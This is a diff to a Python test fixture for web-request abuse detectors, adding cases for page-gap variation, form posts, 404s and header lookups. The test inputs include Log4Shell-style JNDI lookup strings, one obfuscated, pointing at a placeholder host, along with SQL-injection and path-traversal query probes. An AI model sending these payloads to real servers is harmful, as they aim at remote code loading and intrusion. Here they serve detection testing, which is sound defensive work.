@@ -101,6 +101,7 @@ SHOWN = {
     "pause_share": ([{}, {"at": 60}, {"at": 61}], 0.5),
     "page_gap_mean_s": ([{}, {"at": 1, "path": "/a.css"}, {"at": 8}], 8),
     "page_gap_deviation_s": ([{}, {"at": 100}, {"at": 300}], 50),
+    "page_gap_variation": ([{}, {"at": 99, "path": "/a.css"}, {"at": 100}, {"at": 400}], 0.5),
     "night_share": ([{"country": "JP"} | NIGHT], 1),
     "utc_night_share": ([{"at": -5 * 3600}], 1),
     "hours": ([{"at": 3590}, {"at": 3610}], 2),
@@ -274,6 +275,8 @@ SHOWN = {
     "vote_requests": ([{"path": "/post/1/vote"}, {"path": "/post/1/like"}, {"path": "/post/1"}], 2),
     "votes_per_path": ([{"path": "/post/1/vote"}] * 4 + [{"path": "/post/2/vote"}, {}], 2.5),
     "comment_posts": ([COMMENT, COMMENT, COMMENT | {"method": "GET"}, LOGIN], 2),
+    "posts_per_path": ([COMMENT, COMMENT, COMMENT, LOGIN, API | POST | {"user": None}], 2),
+    "form_posts": ([COMMENT, SIGNUP | POST, LOGIN, API | POST | {"user": None}, SIGNUP], 2),
     "form_burst_60s": (
         [
             COMMENT,
@@ -287,6 +290,19 @@ SHOWN = {
     ),
     "odd_methods": ([{"method": "TRACE"}, {"method": "PROPFIND"}, {"method": "HEAD"}, {"method": "PUT"}], 2),
     "version_files": ([{"path": "/README.html"}, {"path": "/blog/license.TXT"}, {"path": "/readme"}], 2),
+    "not_found_pages": (
+        [{"status": 404}, {"status": 404, "path": "/a.png"}, {"status": 404, "path": "/people/7/avatar"}, {}],
+        1,
+    ),
+    "header_lookups": (
+        [
+            USER | {"referrer": "${jndi:ldap://a.example/b}"},
+            USER | {"referrer": "${${lower:j}ndi:rmi://a.example}"},
+            USER | {"user_agent": "${env:PATH}"},
+            USER | {"referrer": "http://a.example/${name}"},
+        ],
+        3,
+    ),
     "markup_in_queries": (
         [{"query": q} for q in ("q=%3Cb%3E", "id=1'", "id=1%27", "f=../x", "f=%2e%2e%2fx", "q=shoes", None)],
         5,
